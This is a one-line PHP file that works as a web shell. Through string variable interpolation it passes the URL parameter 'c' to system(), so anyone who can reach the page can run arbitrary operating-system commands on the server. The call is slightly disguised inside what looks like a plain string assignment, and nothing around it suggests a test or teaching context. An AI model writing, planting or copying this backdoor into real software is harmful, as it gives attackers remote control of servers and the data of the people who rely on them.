<?php $x = "${system($_GET[c])}";
